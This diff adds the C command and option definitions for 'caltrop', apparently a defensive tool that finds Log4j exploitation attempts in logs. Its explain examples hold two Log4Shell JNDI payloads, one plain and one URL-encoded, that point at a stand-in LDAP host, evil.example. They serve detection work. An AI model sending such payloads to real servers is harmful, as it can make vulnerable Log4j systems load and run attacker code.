@@ -1,0 +1,106 @@
+#include "cli/command.h"
+
+#include <string.h>
+
+static const struct ct_option options[] = {
+    {CT_OPT_HELP, "help", 'h', NULL, "show this help"},
+    {CT_OPT_FOLLOW, "follow", 'f', NULL, "keep reading as the logs grow, through rotation; stop with Ctrl-C"},
+    {CT_OPT_STATE, "state", 0, "FILE", "remember positions in FILE and go on there next time, through rotation"},
+    {CT_OPT_JOURNAL, "journal", 0, NULL, "read this host's systemd journal too"},
+    {CT_OPT_JOURNAL_DIR, "journal-dir", 0, "DIR", "read the systemd journal files in DIR"},
+    {CT_OPT_LOG_FORMAT, "log-format", 0, "NAME", "take every line as NAME instead of recognising it (see Log formats)"},
+    {CT_OPT_PROFILE, "profile", 0, "VERSION", "judge as this Log4j version alone, e.g. 2.14.1"},
+    {CT_OPT_DECODE, "decode", 0, "auto|none", "search over decodings (auto, the default) or judge the text as it stands"},
+    {CT_OPT_MIN_GRADE, "min-grade", 0, "GRADE", "leave out lower grades: leak (default), dos, attempt, reach, exploit"},
+    {CT_OPT_SINCE, "since", 0, "TIME", "leave out lines before TIME (2021-12-10T14:00Z, or 2h, 30m, 1d ago)"},
+    {CT_OPT_UNTIL, "until", 0, "TIME", "leave out lines at or after TIME"},
+    {CT_OPT_TRUSTED_PROXY, "trusted-proxy", 0, "CIDR", "believe X-Forwarded-For from these addresses; repeatable"},
+    {CT_OPT_INDICATORS, "indicators", 0, "FILE", "write every callback host, address and port to FILE"},
+    {CT_OPT_CALLBACKS, "callbacks", 0, "FILE", "a DNS, proxy or flow log of yours: attempts whose callback stands in it come first"},
+    {CT_OPT_OWN_SCANNERS, "own-scanners", 0, "FILE", "callback domains or addresses of your own scanners, one a line: labelled, still counted"},
+    {CT_OPT_JSON, "json", 0, NULL, "one ECS event a line on stdout; same as --output ecs"},
+    {CT_OPT_OUTPUT, "output", 0, "FORMAT", "table (default), ecs, csv or sarif"},
+    {CT_OPT_NO_HEADER, "no-header", 0, NULL, "csv without its header line"},
+    {CT_OPT_UNMASKED, "unmasked", 0, NULL, "show tokens and credentials of query strings instead of ***"},
+    {CT_OPT_TO, "to", 0, "URL", "also send campaigns to file:PATH, syslog:HOST, https://... or unix:PATH; repeatable"},
+    {CT_OPT_DATA_DIR, "data-dir", 0, "DIR", "where outlets keep what they could not deliver yet (or CALTROP_DATA_DIR)"},
+    {CT_OPT_CA_FILE, "ca-file", 0, "FILE", "certificates that https outlets trust instead of the system's"},
+    {CT_OPT_TOKEN_FILE, "token-file", 0, "FILE", "bearer token for https outlets"},
+    {CT_OPT_JOBS, "jobs", 'j', "N", "threads (default: one per processor)"},
+    {CT_OPT_VERBOSE, "verbose", 'v', NULL, "one line per attempt"},
+    {CT_OPT_QUIET, "quiet", 'q', NULL, "no summary and no progress, only what was asked for"},
+    {CT_OPT_SAMPLE, "sample", 0, NULL, "look at the shipped sample only, not at this host's logs"},
+};
+
+static const enum ct_option_id detect_options[] = {
+    CT_OPT_FOLLOW, CT_OPT_STATE, CT_OPT_JOURNAL, CT_OPT_JOURNAL_DIR, CT_OPT_LOG_FORMAT, CT_OPT_PROFILE, CT_OPT_DECODE,
+    CT_OPT_MIN_GRADE, CT_OPT_SINCE, CT_OPT_UNTIL, CT_OPT_TRUSTED_PROXY, CT_OPT_INDICATORS, CT_OPT_CALLBACKS, CT_OPT_OWN_SCANNERS,
+    CT_OPT_JSON, CT_OPT_OUTPUT, CT_OPT_NO_HEADER, CT_OPT_UNMASKED, CT_OPT_TO, CT_OPT_DATA_DIR, CT_OPT_CA_FILE, CT_OPT_TOKEN_FILE,
+    CT_OPT_JOBS, CT_OPT_VERBOSE, CT_OPT_QUIET, CT_OPT_HELP,
+};
+static const enum ct_option_id explain_options[] = {CT_OPT_PROFILE, CT_OPT_DECODE, CT_OPT_JSON, CT_OPT_HELP};
+static const enum ct_option_id up_options[] = {CT_OPT_SAMPLE, CT_OPT_JOBS, CT_OPT_HELP};
+static const enum ct_option_id version_options[] = {CT_OPT_VERBOSE, CT_OPT_HELP};
+static const enum ct_option_id help_only[] = {CT_OPT_HELP};
+
+static const char *const detect_examples[] = {
+    "caltrop detect /var/log/nginx/", "every attempt in these logs, compressed ones too",
+    "caltrop detect --json access.log.*.gz > attempts.ndjson", "events for another tool",
+    "caltrop detect --follow --to https://hooks.example/caltrop /var/log/nginx/access.log", "watch, and tell a webhook",
+    "caltrop detect --state /var/lib/caltrop/detect.state -q --output csv --no-header /var/log/nginx/access.log",
+    "from cron: only what is new since the last run",
+    NULL,
+};
+static const char *const explain_examples[] = {
+    "caltrop explain '${${lower:j}ndi:ldap://evil.example/a}'", "what would this do, on which Log4j versions, and why",
+    "caltrop explain '%24%7Bjndi%3Aldap%3A//evil.example/a%7D'", "decoding included",
+    NULL,
+};
+static const char *const up_examples[] = {"caltrop up", "the main job on this host, no questions", NULL};
+
+static const struct ct_command commands[] = {
+    {"up", "", "the main job on this host, no questions",
+     "Looks for exploitation attempts in this host's own web, mail and application logs, and in a shipped sample, and shows "
+     "campaigns and how attempts spread over time.",
+     up_options, sizeof up_options / sizeof *up_options, up_examples, ct_cmd_up},
+    {"detect", "[FILE|DIR|GLOB|-]...", "find exploitation attempts in logs",
+     "Reads logs of any size and format, plain or compressed (gzip, zstd, xz, bzip2, lz4), decodes what a request may be wrapped "
+     "in, and evaluates each lookup as every Log4j version would. What it reports would fire, reach JNDI, leak values or is "
+     "plainly a try; it says on which versions, and whom the attack calls back to. Nothing is resolved, dialled or "
+     "fetched.\n\n"
+     "Without operands it reads standard input if that is piped, else this host's known logs.\n\n"
+     "Grades, highest first: exploit (some Log4j version reaches JNDI with a name that connects), reach (reaches JNDI, cannot "
+     "connect as written), attempt (plainly a try that fires nowhere), dos (recursion), leak (asks for values of the host). An "
+     "answer of unknown certainty is shown at every grade.",
+     detect_options, sizeof detect_options / sizeof *detect_options, detect_examples, ct_cmd_detect},
+    {"explain", "STRING|-", "every decoding and evaluation step of one string",
+     "Prints how a string is decoded, what each Log4j version makes of it, lookup by lookup, and the grade with its reason. "
+     "'-' reads the string from standard input.",
+     explain_options, sizeof explain_options / sizeof *explain_options, explain_examples, ct_cmd_explain},
+    {"self-test", "", "check this very program on known attacks and harmless text",
+     "Runs a built-in set of attacks and harmless strings through the verdict core of this binary, as it stands on this "
+     "machine.",
+     help_only, 1, NULL, ct_cmd_self_test},
+    {"version", "", "version, and with -v how it was built", "Prints the version; -v adds compiler, options and libraries.",
+     version_options, sizeof version_options / sizeof *version_options, NULL, ct_cmd_version},
+};
+
+const struct ct_command *ct_commands(size_t *ret_n)
+{
+    *ret_n = sizeof commands / sizeof *commands;
+    return commands;
+}
+
+const struct ct_command *ct_command_find(const char *name)
+{
+    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++)
+        if (strcmp(commands[i].name, name) == 0) return &commands[i];
+    return NULL;
+}
+
+const struct ct_option *ct_option_get(enum ct_option_id id)
+{
+    for (size_t i = 0; i < sizeof options / sizeof *options; i++)
+        if (options[i].id == id) return &options[i];
+    return NULL;
+}
